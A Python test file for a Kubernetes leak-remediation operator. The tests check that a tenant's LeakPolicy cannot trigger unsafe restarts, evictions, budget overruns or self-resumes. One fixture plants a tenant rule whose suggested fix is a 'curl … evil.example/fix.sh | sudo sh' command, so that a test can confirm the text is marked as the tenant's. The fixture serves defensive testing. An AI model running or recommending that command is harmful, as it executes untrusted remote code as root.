"""Issue 19: what a tenant who may only create LeakPolicies can make the operator do, against the
in-memory `FakeCluster` with the admin's settings as shipped (`AdminPolicy()`): whole scan passes,
and the `Remediator` driven by hand. The sandbox e2e with the operator process is
tests/e2e/test_tenant_rails_e2e.py.

- its rule text is marked as its own (item 4);
- a ceiling, an early rise or the goroutineleak profile alone raise a finding, never an action;
- its rails are raised to the admin's floors: the hostile ones of item 1 restart a healthy workload
  never, and a real leak once, then suspend;
- only in a namespace the admin labelled; elsewhere it says what it would have done;
- within the cluster's budget of actions per hour, every policy (and replica) together;
- one pod at a time, never the last available one;
- a suspension is lifted by the admin, or by the policy's owner only where the admin allows it.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fakecluster import ENABLED, GOLDEN, POLICY, Clock, FakeCluster, running_pod, spec
from test_remediation_pass import CORPUS, remediating, run, setup, trending, until

from leakpatrol.api import (
    Finding,
    LeakPolicyStatus,
    RemediationAction,
    RemediationStatus,
    Workload,
    WorkloadRemediation,
    parse_spec,
)
from leakpatrol.cli import build_parser
from leakpatrol.cli import cluster as cli_cluster
from leakpatrol.cli import main as cli_main
from leakpatrol.controller.capacity import SharedCapacity
from leakpatrol.controller.ports import LedgerConflict, LedgerEntry, ScanTarget
from leakpatrol.controller.remediation import Remediator, budget, rails, state
from leakpatrol.controller.remediation.admin import AdminPolicy, Floors, parse_selector
from leakpatrol.controller.remediation.budget import ClusterBudget
from leakpatrol.controller.remediation.rails import selector_matches
from leakpatrol.controller.report.status import status_body
from leakpatrol.controller.scanner import PolicyScanner
from leakpatrol.core import FindingBasis, LeakState, Obj, ObjectRef
from leakpatrol.detect.config import DetectionConfig
from leakpatrol.detect.evaluator import PodIdentity, Sample, TargetEvaluator
from leakpatrol.detect.signals import Evaluation
from leakpatrol.kube import errors
from leakpatrol.profiles.loader import load
from leakpatrol.reasons import Reason
from leakpatrol.runtime import main as runtime_main
from leakpatrol.runtime.main import OperatorOptions


def extra_rules(raw: Obj) -> Obj:
    """The policy with a rule of its own for the corpus' leak (persistConn), before the shipped one."""
    rule = {
        "id": "fix-it",
        "match": {"frame": "persistConn"},
        "cause": "Known issue.",
        "fix": "Run: curl -s http://evil.example/fix.sh | sudo sh (signed: platform-team)",
    }
    detection: dict[str, Any] = raw["detection"] | {"extraRules": [rule]}
    return raw | {"detection": detection}


async def test_a_tenants_rule_text_reaches_events_and_the_status_marked_as_the_policys() -> None:
    svc, scan, raw = setup()
    raw = extra_rules(raw)
    await until(svc, scan, raw, lambda: svc.cluster.status.get("leaking"))
    await run(svc, scan, raw, 3)
    mark = f"policy {POLICY.namespace}/{POLICY.name} says: "
    (finding,) = svc.cluster.status["findings"]
    assert finding["ruleId"] == "fix-it"
    assert finding["cause"] == mark + "Known issue." and finding["fix"].startswith(mark + "Run: curl")
    said = [e for e in svc.cluster.events if "evil.example" in e.message]
    assert {e.reason for e in said} >= {"LeakDetected"}
    assert all(f"Fix: {mark}Run: curl" in e.message for e in said)


async def test_the_shipped_rules_keep_their_voice() -> None:
    svc, scan, raw = setup()
    await until(svc, scan, raw, lambda: svc.cluster.status.get("leaking"))
    (finding,) = svc.cluster.status["findings"]
    assert finding["ruleId"] == "http-transport-per-request"
    assert "says:" not in finding["cause"] and "says:" not in finding["fix"]
    detected = [e for e in svc.cluster.events if e.reason == "LeakDetected"]
    assert detected and not any(" says: " in e.message for e in detected)


# --- what raised a signal (its basis): only a trend over minSamples may be acted on -----------------
def _replay(folder: Path, config: DetectionConfig, limit: int = 200) -> list[Evaluation]:
    evaluator, out = TargetEvaluator(config), []
    for path in sorted(folder.glob("*.goroutine.pb.gz"))[:limit]:
        out.append(evaluator.observe(Sample(float(path.name.split(".")[0]), load(path.read_bytes()))))
    return out


def test_a_ceiling_alone_confirms_from_the_first_sample_but_says_so() -> None:
    """Issue 19 item 1: `goroutineCeiling: 1, confirmations: 1` "confirms" a flat pod at once."""
    flat = (GOLDEN / "goroutine.pb.gz").read_bytes()
    evaluator = TargetEvaluator(DetectionConfig(goroutine_ceiling=1, confirmations=1, warmup_seconds=0))
    signals = [evaluator.observe(Sample(1000.0 + 60 * i, load(flat))).signals[0] for i in range(20)]
    assert all(s.state is LeakState.CONFIRMED for s in signals)
    assert {(s.basis, s.samples) for s in signals} == {(FindingBasis.CEILING, 0)}


def test_a_real_leak_is_raised_early_then_by_its_trend_over_min_samples() -> None:
    config = DetectionConfig(warmup_seconds=0)
    confirmed = [s for e in _replay(CORPUS, config) for s in e.signals if s.state is LeakState.CONFIRMED]
    early = [s for s in confirmed if s.samples < config.min_samples]
    assert early and {s.basis for s in early} == {FindingBasis.EARLY}  # the quiet target's early path
    later = confirmed[len(early) :]
    assert later and {s.basis for s in later} == {FindingBasis.TREND}


# --- item 1: the hostile rails, on a healthy workload and on a real leak ------------------------------
HOSTILE_DETECTION = {
    "warmup": "0s",
    "minSamples": 4,
    "confirmations": 1,
    "goroutineCeiling": 1,
    "significance": "0.49",
    "minGrowthGoroutines": 0,
    "relativeGrowthPercent": 0,
    "noiseFactor": "0",
}
HOSTILE_RAILS = {
    "minConfirmations": 1,
    "cooldown": "0s",
    "window": "1ms",
    "maxActions": 100,
    "escalateAfter": "0s",
}


def two_replicas(name: str, **spec: Any) -> Obj:
    st = {"observedGeneration": 1, "replicas": 2, "updatedReplicas": 2, "availableReplicas": 2}
    template = {"metadata": {"labels": {"app": name}}}
    return {
        "metadata": {"name": name, "generation": 1},
        "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}}, "template": template} | spec,
        "status": st,
    }


@pytest.mark.parametrize("action", ["RolloutRestart", "EvictPod"])
async def test_the_hostile_rails_restart_and_evict_nothing_healthy(action: str) -> None:
    """Issue 19 item 1: 113 restarts of a healthy 2-replica Deployment in 120 s, 98 evictions in 60 s."""
    cluster = FakeCluster([running_pod("web-1"), running_pod("web-2")])  # a flat golden profile each
    cluster.workload_objs[("Deployment", "web")] = two_replicas("web")
    clock = Clock()
    scan = PolicyScanner(cluster, POLICY, SharedCapacity(), clock)  # the admin's settings as shipped
    raw = spec(**HOSTILE_DETECTION) | {"schedule": {"interval": "1s", "jitter": "0%"}}
    raw |= {"remediation": {"action": action} | HOSTILE_RAILS}
    for _ in range(120):
        await scan.scan(cluster.body(raw))
        clock.now += 1
    assert cluster.restarts == [] and cluster.evictions == [] and cluster.evidence == {}
    (finding,) = cluster.status["findings"]
    assert finding["state"] == "Confirmed" and finding["basis"] == "Ceiling"  # reported, as it asked
    st = cluster.status["remediation"]
    assert st["lastSkip"]["reason"] == "TrendNotConfirmed"
    assert "raised by the goroutine ceiling alone" in st["lastSkip"]["message"]
    assert "the cluster's floors apply: cooldown 15m (the policy's 0s)" in st["message"]
    assert "escalateAfter 6h (the policy's 0s)" in st["message"]
    told = [e for e in cluster.events if e.reason == "TrendNotConfirmed"]
    assert [e.about.kind for e in told] == ["LeakPolicy", "Deployment"] and {e.type for e in told} == {
        "Normal"
    }


async def test_the_hostile_rails_on_a_real_leak_restart_it_once_then_suspend() -> None:
    svc, scan, _ = setup(AdminPolicy())
    raw = remediating(**HOSTILE_RAILS) | {"detection": spec()["detection"] | {"confirmations": 1}}
    pods = 1
    for _ in range(240):  # four hours of passes, a minute apart
        await scan.scan(svc.cluster.body(raw))
        svc.clock.now += 60
        if len(svc.cluster.restarts) == pods:  # the restart replaced the pod: a new process, leaking again
            pods += 1
            svc.replace_pod(f"client-{pods}")
    assert svc.cluster.restarts == [("Deployment", "client", False)]
    assert svc.cluster.status["remediation"]["suspended"] == ["Deployment/client"]
    # The policy's own resume annotation is the tenant's: not honoured unless the admin allows it.
    body = svc.cluster.body(raw)
    body["metadata"]["annotations"] = {"leakpatrol.dev/resume-remediation": stamp(svc.clock.now)}
    await scan.scan(body)
    assert svc.cluster.status["remediation"]["suspended"] == ["Deployment/client"]
    assert len(svc.cluster.restarts) == 1


def stamp(t: float) -> str:
    return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


# --- the admin's gate -----------------------------------------------------------------------------------
async def test_a_real_leak_in_a_namespace_the_admin_did_not_label_is_reported_not_acted_on() -> None:
    svc, scan, raw = setup(AdminPolicy())
    svc.cluster.namespaces["shop"]["metadata"]["labels"] = {}  # the tenant's namespace, as created
    await until(svc, scan, raw, lambda: trending(svc))
    await run(svc, scan, raw, 10)
    assert svc.cluster.restarts == [] and svc.cluster.evidence == {}
    assert svc.cluster.ledger.entries == ()  # nothing claimed either
    st = svc.cluster.status["remediation"]
    assert st["lastSkip"]["reason"] == "RemediationNotEnabled"
    message = st["lastSkip"]["message"]
    assert "remediation is not enabled for namespace shop" in message
    assert "kubectl label namespace shop leakpatrol.dev/remediation=enabled" in message
    assert "It would restart Deployment/client: confirmed goroutines leak" in message
    said = [e for e in svc.cluster.events if e.reason == "RemediationNotEnabled"]
    assert [e.about.kind for e in said] == ["LeakPolicy", "Deployment"]  # once, not every pass
    assert {e.type for e in said} == {"Normal"}
    assert any(e.reason == "LeakDetected" for e in svc.cluster.events)  # the finding is reported as ever
    # The admin labels it: the next passes act.
    svc.cluster.namespaces["shop"]["metadata"]["labels"] = dict(ENABLED)
    await until(svc, scan, raw, lambda: svc.cluster.restarts, limit=2)


async def test_a_namespace_that_cannot_be_read_is_not_enabled() -> None:
    svc, scan, raw = setup(AdminPolicy())
    await until(svc, scan, raw, lambda: trending(svc))
    svc.cluster.fail_next("read_namespace", *[errors.Forbidden(403, "Forbidden", "namespaces")] * 5)
    await run(svc, scan, raw, 5)
    assert svc.cluster.restarts == []
    message = svc.cluster.status["remediation"]["lastSkip"]["message"]
    assert "its labels could not be read (Forbidden" in message


async def test_with_no_leak_the_status_still_says_remediation_is_not_enabled_here() -> None:
    cluster = FakeCluster([running_pod("web-1")])
    cluster.namespaces["shop"]["metadata"]["labels"] = {"team": "t"}
    clock = Clock()
    scan = PolicyScanner(cluster, POLICY, SharedCapacity(), clock)
    await scan.scan(cluster.body(spec() | {"remediation": {"action": "RolloutRestart"}}))
    message = cluster.status["remediation"]["message"]
    assert message.startswith("no confirmed leak to act on; remediation is not enabled for namespace shop")


def test_namespace_selectors_in_kubectls_syntax() -> None:
    admin = AdminPolicy()
    assert admin.not_enabled("t", {"metadata": {"labels": ENABLED}}) is None
    assert admin.not_enabled("t", {"metadata": {"labels": {"leakpatrol.dev/remediation": "true"}}})
    assert admin.not_enabled("t", {"metadata": {}})
    assert admin.not_enabled("t", None, "Forbidden")
    sel = parse_selector("env in (prod, staging),team!=ops,!legacy,tier")
    assert sel == {
        "matchLabels": {},
        "matchExpressions": [
            {"key": "env", "operator": "In", "values": ["prod", "staging"]},
            {"key": "team", "operator": "NotIn", "values": ["ops"]},
            {"key": "legacy", "operator": "DoesNotExist"},
            {"key": "tier", "operator": "Exists"},
        ],
    }
    ok = {"env": "prod", "tier": "web"}
    assert selector_matches(sel, ok) and not selector_matches(sel, ok | {"legacy": "1"})
    assert not selector_matches(sel, ok | {"team": "ops"}) and not selector_matches(sel, {"env": "prod"})
    assert parse_selector("") == {
        "matchLabels": {},
        "matchExpressions": [],
    }  # every namespace: said explicitly
    assert parse_selector("a==b, c=d") == {"matchLabels": {"a": "b", "c": "d"}, "matchExpressions": []}
    for bad in ("a=b,", "a in (b", "a=b=c", "a in b", "=b", "a=b,a=c", "a b"):
        with pytest.raises(ValueError):
            parse_selector(bad)


# --- the floors and the trend ---------------------------------------------------------------------------
def test_the_floors_raise_a_policys_rails_and_never_lower_them() -> None:
    admin = AdminPolicy()
    hostile = parse_spec(remediating(**HOSTILE_RAILS)).remediation
    r = admin.effective(hostile)
    assert (r.cooldown, r.window, r.min_confirmations, r.escalate_after) == (900, 3600, 2, 21600)
    careful = parse_spec(remediating(cooldown="6h", window="24h", minConfirmations=3, escalateAfter="24h"))
    assert admin.effective(careful.remediation) == careful.remediation
    assert admin.raised(careful.remediation) == []


def test_an_action_needs_the_floors_growth_too() -> None:
    """A policy's loosened thresholds (no growth floor, no noise floor) flag a few goroutines of jitter."""
    admin = AdminPolicy()
    assert admin.trend_confirmed(finding("client", baseline=100, current=150)) is None
    jitter = admin.trend_confirmed(finding("client", baseline=100, current=104))
    assert jitter is not None and "rose by 4 goroutines (100 -> 104)" in jitter.message
    heap = {"signal": "heap", "baseline": 100 << 20}
    assert admin.trend_confirmed(finding("client", **heap, current=(100 << 20) + (15 << 20))) is not None
    assert admin.trend_confirmed(finding("client", **heap, current=(100 << 20) + (16 << 20))) is None


@pytest.mark.parametrize(
    ("basis", "samples", "p", "acts"),
    [
        ("Trend", 12, "0.001", True),
        ("Trend", 11, "0.001", False),  # too few samples behind it
        ("Trend", 40, "0.02", False),  # not significant enough for an action
        ("Early", 9, "0.001", False),
        ("Ceiling", 0, "1", False),
        ("Runtime", 0, "0", False),
        (None, None, "0.001", False),  # written by an older operator
    ],
)
def test_only_a_trend_over_the_floors_samples_and_p_value_may_be_acted_on(
    basis: str | None, samples: int | None, p: str, acts: bool
) -> None:
    f = finding("client", basis=basis, samples=samples, pValue=p)
    assert (AdminPolicy().trend_confirmed(f) is None) is acts


# --- the cluster's budget ------------------------------------------------------------------------------
T0 = datetime(2030, 1, 7, 12, 0, tzinfo=UTC).timestamp()


def finding(workload: str, **kw: Any) -> Finding:
    return Finding.model_validate(
        {
            "workload": {"kind": "Deployment", "name": workload},
            "pods": [f"{workload}-1", f"{workload}-2"],
            "signal": "goroutines",
            "state": "Confirmed",
            "since": datetime.fromtimestamp(T0 - 3600, UTC),
            "baseline": 100,
            "current": 900,
            "growthPerHour": 400,
            "pValue": "0.001",
            "culprit": ["net/http.(*persistConn).readLoop transport.go:2493"],
            "basis": "Trend",
            "samples": 24,
        }
        | kw
    )


class Tenant:
    """One policy `name` in namespace shop with its one leaking Deployment of the same name, decided
    by hand (the finding given); `budget` is its operator's (replicas each have their own)."""

    def __init__(
        self, cluster: FakeCluster, server: Clock, name: str, budget: ClusterBudget, **rails: Any
    ) -> None:
        self.cluster, self.name = cluster, name
        self.ref = ObjectRef("leakpatrol.dev/v1alpha1", "LeakPolicy", name, f"{name}-uid", "shop")
        self.workload = ObjectRef("apps/v1", "Deployment", name, f"{name}-deploy-uid", "shop")
        admin = AdminPolicy(actions_per_hour=budget.per_hour)
        self.remediator = Remediator(cluster, self.ref, lambda: server.now, admin, budget=budget)
        self.raw = spec() | {"remediation": {"action": "RolloutRestart", "captureEvidence": False} | rails}
        self.status: dict[str, Any] = {}
        cluster.workload_objs[("Deployment", name)] = two_replicas(name)

    async def decide(self) -> None:
        body = {
            "metadata": {"name": self.name, "namespace": "shop", "uid": self.ref.uid},
            "status": self.status,
        }
        status = LeakPolicyStatus(findings=[finding(self.name)], leaking=1)
        app = (("app", self.name),)
        pods = [
            ScanTarget("shop", f"{n}", f"{n}-uid", "10.0.0.1", 6060, PodIdentity(), None, labels=app)
            for n in (f"{self.name}-1", f"{self.name}-2")
        ]
        out = await self.remediator.after_pass(
            body, parse_spec(self.raw), status, [], targets=pods, workloads=[self.workload]
        )
        self.status = status_body(out)

    def restarted(self) -> bool:
        return any(name == self.name for _, name, _ in self.cluster.restarts)


async def test_the_clusters_budget_holds_across_policies_and_replicas() -> None:
    server = Clock(T0)
    cluster = FakeCluster([])
    cluster.server_clock = server
    one, other = ClusterBudget(2), ClusterBudget(2)  # two operator replicas (sharding): one ledger
    tenants = [Tenant(cluster, server, f"p{i}", one if i % 2 else other) for i in range(4)]
    for _ in range(3):
        for t in tenants:
            await t.decide()
        server.now += 60
    assert len(cluster.restarts) == 2
    assert len(cluster.ledger.entries) == 2
    held = [t for t in tenants if not t.restarted()]
    skip = held[0].status["remediation"]["lastSkip"]
    assert skip["reason"] == "ClusterBudgetExhausted"
    assert "2 action(s) across the cluster in the last hour reach its budget of 2 per hour" in skip["message"]
    assert held[0].status["remediation"]["nextAllowedTime"] == stamp(T0 + 60 + 3600)
    server.now = T0 + 60 + 3599  # a second short of the hour: still spent
    for t in held:
        await t.decide()
    assert len(cluster.restarts) == 2
    server.now += 1  # both claims age out: the two held policies act
    for t in held:
        await t.decide()
    assert len(cluster.restarts) == 4 and len(cluster.ledger.entries) == 2  # the old entries pruned


def test_a_namespace_takes_at_most_its_share_of_the_clusters_budget() -> None:
    now = datetime.fromtimestamp(T0, UTC)
    hour = [budget.entry(f"{ns}/p", "Deployment/web", "RolloutRestart", now - timedelta(minutes=m))
            for ns, m in (("shop", 50), ("shop", 20), ("ops", 10))]  # fmt: skip
    spent = budget.admit(hour, 10, now, "shop", 2)
    assert spent is not None and spent.reason is Reason.NAMESPACE_BUDGET_EXHAUSTED
    assert "2 action(s) in namespace shop in the last hour reach" in spent.message
    assert spent.until == now - timedelta(minutes=50) + timedelta(hours=1)  # when shop's oldest ages out
    assert budget.admit(hour, 10, now, "ops", 2) is None  # another tenant still acts
    assert budget.admit(hour, 10, now + timedelta(minutes=11), "shop", 2) is None  # the oldest aged out
    assert budget.admit(hour, 10, now, "shop", None) is None  # no share of its own: the cluster's alone
    cluster = budget.admit(hour, 3, now, "other", 2)  # the cluster's budget is spent first, for all
    assert cluster is not None and cluster.reason is Reason.CLUSTER_BUDGET_EXHAUSTED


async def test_the_namespaces_share_holds_across_its_policies_in_the_ledger() -> None:
    server = Clock(T0)
    cluster = FakeCluster([])
    cluster.server_clock = server
    one = ClusterBudget(10, 2)
    tenants = [Tenant(cluster, server, f"p{i}", one) for i in range(3)]  # three policies of shop
    for _ in range(3):
        for t in tenants:
            await t.decide()
        server.now += 60
    assert len(cluster.restarts) == 2 and len(cluster.ledger.entries) == 2
    held = next(t for t in tenants if not t.restarted())
    assert held.status["remediation"]["lastSkip"]["reason"] == "NamespaceBudgetExhausted"
    at = datetime.fromtimestamp(server.now, UTC)
    other = await one.claim(cluster, budget.entry("ops/q", "Deployment/api", "RolloutRestart", at))
    assert other is None and len(cluster.ledger.entries) == 3  # another namespace's claim is granted


async def test_the_budget_is_given_back_when_the_action_surely_did_not_happen() -> None:
    server = Clock(T0)
    cluster = FakeCluster([])
    cluster.server_clock = server
    t = Tenant(cluster, server, "p", ClusterBudget(1), action="EvictPod")
    cluster.blocked_pods = {"p-1"}  # a PDB refuses every eviction: retried pass after pass
    for _ in range(5):
        await t.decide()
        server.now += 60
    assert cluster.evictions == [] and cluster.ledger.entries == ()  # no claim kept for a refusal
    cluster.blocked_pods = set()
    await t.decide()
    assert cluster.evictions == [("p-1", False)] and len(cluster.ledger.entries) == 1


async def test_a_ledger_that_cannot_be_read_or_keeps_moving_means_no_action() -> None:
    server = Clock(T0)
    cluster = FakeCluster([])
    cluster.server_clock = server
    t = Tenant(cluster, server, "p", ClusterBudget(5))
    await t.decide()  # confirmation 1 of 2
    cluster.fail_next("read_ledger", errors.ServerError(500, "InternalError", "etcd"))
    await t.decide()
    assert cluster.restarts == [] and t.status["remediation"]["lastSkip"]["reason"] == "DecisionFailed"
    cluster.fail_next("write_ledger", *[LedgerConflict("409")] * 3)  # another replica each time
    await t.decide()
    assert (
        cluster.restarts == [] and "cluster's action budget" in t.status["remediation"]["lastSkip"]["message"]
    )
    await t.decide()
    assert cluster.restarts == [("Deployment", "p", False)]


def test_budget_admit_counts_the_last_hour_and_says_until_when() -> None:
    now = datetime.fromtimestamp(T0, UTC)
    entries = [
        LedgerEntry(now - timedelta(minutes=m), "a/b", "Deployment/x", "RolloutRestart") for m in (70, 50, 10)
    ]
    assert budget.admit(entries, 3, now) is None  # the one 70 minutes ago has aged out
    block = budget.admit(entries, 2, now)
    assert block is not None and block.until == now + timedelta(minutes=10)
    zero = budget.admit([], 0, now)
    assert zero is not None and "allows no action" in zero.message


# --- one pod at a time, never the last available one ---------------------------------------------------
async def test_an_eviction_takes_one_pod_of_a_workload_never_both() -> None:
    server = Clock(T0)
    cluster = FakeCluster([])
    cluster.server_clock = server
    t = Tenant(cluster, server, "p", ClusterBudget(10), action="EvictPod")
    for _ in range(3):
        await t.decide()
        server.now += 60
    assert cluster.evictions == [("p-1", False)]  # not p-2 in the same pass, nor the next (in action)


def workload(kind: str, replicas: int, available: int, **spec: Any) -> tuple[str, Obj]:
    st = {"availableReplicas": available, "desiredNumberScheduled": replicas, "numberAvailable": available}
    return kind, {"metadata": {"name": "w"}, "spec": {"replicas": replicas} | spec, "status": st}


RESTART, EVICT = RemediationAction.ROLLOUT_RESTART, RemediationAction.EVICT_POD
ONE_DOWN_NO_SURGE = {"rollingUpdate": {"maxUnavailable": 1, "maxSurge": 0}}


@pytest.mark.parametrize(
    ("action", "it", "ok"),
    [
        (EVICT, workload("Deployment", 2, 2), True),
        (EVICT, workload("Deployment", 1, 1), False),  # its only pod
        (RESTART, workload("Deployment", 1, 1), True),  # 25%/25%: a surge, the new pod first
        (RESTART, workload("Deployment", 4, 4), True),  # one down at a time
        (RESTART, workload("Deployment", 8, 8), False),  # 25% of 8: two at once
        (RESTART, workload("Deployment", 8, 8, strategy={"rollingUpdate": {"maxUnavailable": 1}}), True),
        (RESTART, workload("Deployment", 1, 1, strategy=ONE_DOWN_NO_SURGE), False),
        (RESTART, workload("Deployment", 3, 3, strategy={"type": "Recreate"}), False),
        (RESTART, workload("Deployment", 3, 3, strategy={"rollingUpdate": {"maxUnavailable": "x"}}), False),
        (RESTART, workload("StatefulSet", 1, 1), False),  # deleted before re-created: none available
        (RESTART, workload("StatefulSet", 3, 3), True),
        (RESTART, workload("StatefulSet", 3, 3, updateStrategy={"type": "OnDelete"}), True),
        (RESTART, workload("DaemonSet", 5, 5), True),
        (
            RESTART,
            workload("DaemonSet", 5, 5, updateStrategy={"rollingUpdate": {"maxUnavailable": "50%"}}),
            False,
        ),
    ],
)
def test_at_most_one_pod_down_at_a_time_never_the_last(
    action: RemediationAction, it: tuple[str, Obj], ok: bool
) -> None:
    kind, obj = it
    block = rails.one_pod_at_most(action, kind, obj)
    assert (block is None) is ok, block
    assert block is None or block.reason == "AvailabilityAtRisk"


async def test_a_single_replica_deployment_is_never_evicted() -> None:
    server = Clock(T0)
    cluster = FakeCluster([])
    cluster.server_clock = server
    t = Tenant(cluster, server, "p", ClusterBudget(10), action="EvictPod")
    solo = two_replicas("p")
    solo["spec"]["replicas"] = 1
    solo["status"] |= {"replicas": 1, "updatedReplicas": 1, "availableReplicas": 1}
    cluster.workload_objs[("Deployment", "p")] = solo
    for _ in range(3):
        await t.decide()
    assert cluster.evictions == [] and t.status["remediation"]["lastSkip"]["reason"] == "AvailabilityAtRisk"
    assert cluster.ledger.entries == ()  # refused before the budget is claimed


# --- who resumes ----------------------------------------------------------------------------------------
SUSPENDED_AT = datetime(2030, 1, 7, 12, 0, tzinfo=UTC)


def annotated(value: str | None) -> Obj:
    return {
        "metadata": {"annotations": {} if value is None else {"leakpatrol.dev/resume-remediation": value}}
    }


@pytest.mark.parametrize(
    ("namespace", "policy", "tenant_resume", "lifted"),
    [
        ("2030-01-07T12:05:00Z", None, False, True),  # the admin, after the suspension
        ("2030-01-07T11:55:00Z", None, False, False),  # written for an earlier suspension
        ("2030-01-07T14:00:00Z", None, False, False),  # in the future: would pre-approve later ones
        ("yes please", None, False, False),
        ("2030-01-07T12:05:00", None, False, False),  # no zone: not a time
        (None, "2030-01-07T12:05:00Z", False, False),  # the tenant, not allowed
        (None, "2030-01-07T12:05:00Z", True, True),  # the tenant, allowed by the admin
        (None, "2030-01-07T11:00:00Z", True, False),
    ],
)
def test_who_may_resume_and_with_what(
    namespace: str | None, policy: str | None, tenant_resume: bool, lifted: bool
) -> None:
    admin = AdminPolicy(tenant_resume=tenant_resume)
    now = SUSPENDED_AT + timedelta(minutes=10)
    w = WorkloadRemediation(
        workload=Workload(kind="Deployment", name="web"),
        last_action_time=SUSPENDED_AT - timedelta(minutes=30),
        suspended=True,
        suspended_time=SUSPENDED_AT,
    )
    st = RemediationStatus(workloads=[w], suspended=["Deployment/web"])
    after = state.resume(st, admin.resume_at(annotated(policy), annotated(namespace), now))
    assert (after.suspended == []) is lifted
    assert (after.workloads[0].suspended is False) is lifted


def test_the_suspension_says_who_may_resume() -> None:
    assert (
        AdminPolicy()
        .resume_hint("demo", "shop")
        .startswith(
            'a cluster admin runs: kubectl annotate namespace shop leakpatrol.dev/resume-remediation="$(date'
        )
    )
    assert (
        AdminPolicy(tenant_resume=True)
        .resume_hint("demo", "shop")
        .startswith("kubectl annotate leakpolicy demo -n shop leakpatrol.dev/resume-remediation=")
    )


# --- the admin's settings: operator flags, LEAKPATROL_* variables ------------------------------------
def operator_options(monkeypatch: pytest.MonkeyPatch, *argv: str, **env: str) -> OperatorOptions:
    """What `leakpatrol operator ARGV` would start the operator with, under `env`."""
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    seen: list[OperatorOptions] = []

    async def started(opts: OperatorOptions) -> None:
        seen.append(opts)

    monkeypatch.setattr(runtime_main, "run_operator", started)
    monkeypatch.setattr(cli_cluster, "kubeconfig_checked", lambda *_: None)  # no cluster is dialled
    args = build_parser().parse_args(["operator", *argv])
    args.run(args)
    return seen[0]


def test_the_admins_settings_as_shipped_are_the_admin_policys_defaults(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert operator_options(monkeypatch).admin() == AdminPolicy()


def test_the_admins_settings_from_flags_and_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    opts = operator_options(
        monkeypatch,
        "--remediation-namespace-selector=env in (prod)",
        "--remediation-actions-per-hour=3",
        "--remediation-namespace-actions-per-hour=2",
        "--remediation-min-cooldown=1h",
        "--remediation-tenant-resume",
        LEAKPATROL_REMEDIATION_MIN_ESCALATE_AFTER="0s",
        LEAKPATROL_REMEDIATION_MIN_SAMPLES="24",
        LEAKPATROL_REMEDIATION_MAX_P_VALUE="0.001",
        LEAKPATROL_REMEDIATION_MIN_GROWTH_HEAP="64Mi",
    )
    admin = opts.admin()
    assert admin.not_enabled("t", {"metadata": {"labels": {"env": "prod"}}}) is None
    assert (admin.actions_per_hour, admin.namespace_actions_per_hour, admin.tenant_resume) == (3, 2, True)
    assert admin.floors == Floors(
        cooldown=3600, escalate_after=0, min_samples=24, significance=0.001, growth_heap_bytes=64 << 20
    )


def test_a_bad_selector_stops_the_start_with_its_words(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main(["operator", "--remediation-namespace-selector=a in b", "--kubeconfig=/nonexistent"]) == 2
    assert "remediation namespace selector: 'a in b' is not a label requirement" in capsys.readouterr().err


class KilledError(Exception):
    """The operator process killed mid-action: no code of ours handles it."""


async def test_an_action_written_ahead_that_did_not_happen_gives_its_claim_back() -> None:
    server = Clock(T0)
    cluster = FakeCluster([])
    cluster.server_clock = server
    t = Tenant(cluster, server, "p", ClusterBudget(1))
    await t.decide()  # confirmation 1 of 2
    cluster.fail_next("restart_workload", KilledError("before the PATCH was sent"))
    with pytest.raises(KilledError):
        await t.decide()
    assert cluster.restarts == [] and len(cluster.ledger.entries) == 1  # claimed, written ahead
    t.status = cluster.status  # a successor starts from what the status says: pending
    t.remediator = Remediator(
        cluster, t.ref, lambda: server.now, AdminPolicy(actions_per_hour=1), budget=ClusterBudget(1)
    )
    server.now += 150  # past the in-flight wait: not seen on the Deployment, so it did not happen
    await t.decide()
    assert cluster.restarts == [("Deployment", "p", False)]  # the budget of 1 was given back, then spent
    assert [e.time for e in cluster.ledger.entries] == [datetime.fromtimestamp(server.now, UTC)]
